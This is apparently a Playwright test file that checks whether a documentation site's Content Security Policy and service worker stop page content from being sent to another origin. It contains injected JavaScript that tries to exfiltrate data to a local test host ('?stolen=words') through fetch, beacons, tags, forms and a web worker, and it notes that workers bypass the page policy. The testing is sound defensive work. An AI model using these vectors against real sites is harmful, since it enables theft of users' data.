"""The policy in every page: it refuses what it should, and nothing that the site itself does."""

from __future__ import annotations

import shutil
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.support.browser import ready, saved
from tests.support.host import Host, hear, wait_until_kept

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, BrowserContext, Page

TALK = "talk-to-people/the-talk/"
SPY = """
onmessage = ({ data }) => fetch(data, { mode: "no-cors" }).then(
  () => postMessage("it got out"),
  () => postMessage("it was refused"),
);
"""
FROM_A_WORKER = """
(url) => new Promise((resolve) => {
  const worker = new Worker(new URL("../../spy.js", location));
  worker.onmessage = ({ data }) => resolve(data);
  worker.postMessage(url);
})
"""
FROM_THE_PAGE = """
async (url) => {
  const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
  fetch(url, { mode: "no-cors" }).catch(() => {});
  navigator.sendBeacon(url, "words");
  import(url).catch(() => {});
  add("img", { src: url });
  add("script", { src: url });
  add("iframe", { src: url });
  add("link", { rel: "stylesheet", href: url });
  add("script", { textContent: "globalThis.ran = true" });
  const form = Object.assign(document.createElement("form"), { action: url });
  document.body.append(form);
  form.submit();
  await new Promise((resolve) => setTimeout(resolve, 1000));
  return globalThis.ran ?? false;
}
"""


@pytest.fixture
def site_with_a_spy(site: Path, tmp_path: Path) -> Path:
    folder = tmp_path / "site"
    shutil.copytree(site, folder)
    (folder / "spy.js").write_text(SPY, "utf-8")
    return folder


@pytest.fixture
def host(site_with_a_spy: Path) -> Iterator[Host]:
    host = Host(site_with_a_spy)
    yield host
    host.close()


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[Host]:
    """Another origin, which notes what it is asked for."""
    elsewhere = Host(tmp_path)
    yield elsewhere
    elsewhere.close()


@pytest.fixture
def context(fresh_context: BrowserContext) -> BrowserContext:
    return fresh_context


def test_nothing_that_a_reader_does_is_refused(page: Page, host: Host, tmp_path: Path) -> None:
    complaints = hear(page)
    ready(page, host.url + TALK)
    page.evaluate("window.print = () => {}")
    steps = page.locator("[data-type=entries]").first
    steps.get_by_role("button", name="Add another").click()
    steps.locator("textarea").last.fill("a step")
    page.locator(".wb-options input").first.check()
    saved(page)
    steps.get_by_role("button", name="Remove").last.click()
    page.get_by_role("button", name="Undo").click()
    page.locator(".wb-print-settings summary").click()
    page.get_by_label("Blank to write on").check()
    page.get_by_label("US Letter").check()
    page.get_by_label("Ink saver").check()
    page.get_by_role("button", name="Print").last.click()
    page.pdf(path=tmp_path / "sheet.pdf")
    page.locator("[for=__palette_1]").click()
    expect(page.locator("body[data-md-color-scheme=slate]")).to_be_visible()
    ready(page, host.url + "your-answers/")
    with page.expect_download():
        page.get_by_role("button", name="Download a copy").click()
    assert complaints == []


def test_search_and_its_worker_are_not_refused(page: Page, host: Host) -> None:
    complaints = hear(page)
    page.goto(host.url)
    search = page.locator(".md-search__input")
    search.press_sequentially("zzzzz")
    expect(page.locator(".md-search-result__meta")).to_contain_text("No matching documents")
    search.press("Enter")
    page.wait_for_timeout(300)
    assert page.url == host.url
    page.goto(host.url)
    search.press_sequentially("mentor")
    expect(page.locator(".md-search-result__item").first).to_be_visible()
    with page.expect_navigation():
        search.press("Enter")
    assert "mentor" in page.url
    assert complaints == []


def test_words_cannot_be_carried_off_by_the_page(page: Page, host: Host, elsewhere: Host) -> None:
    ready(page, host.url + TALK)
    complaints = hear(page)
    page.reload()
    ran = page.evaluate(FROM_THE_PAGE, f"{elsewhere.url}?stolen=words")
    assert not ran
    assert elsewhere.asked == []
    refused = {line.split("policy: ")[1].split()[0] for line in complaints if "policy: " in line}
    assert refused == {
        "connect-src",
        "img-src",
        "script-src-elem",
        "frame-src",
        "style-src-elem",
        "form-action",
    }


def test_the_service_worker_refuses_what_the_policy_cannot_see(
    page: Page, host: Host, elsewhere: Host
) -> None:
    """A policy in a page does not bind the page's workers; see what a kept page adds."""
    ready(page, host.url + TALK)
    wait_until_kept(page)
    ready(page, host.url + TALK)
    assert page.evaluate(FROM_A_WORKER, f"{elsewhere.url}?stolen=words") == "it was refused"
    assert elsewhere.asked == []


def test_without_the_service_worker_that_hole_is_open(
    browser: Browser, host: Host, elsewhere: Host
) -> None:
    """What the other test proves, proved from the other side."""
    context = browser.new_context(service_workers="block")
    page = ready(context.new_page(), host.url + TALK)
    assert page.evaluate(FROM_A_WORKER, f"{elsewhere.url}?stolen=words") == "it got out"
    assert elsewhere.asked == ["?stolen=words"]
    context.close()
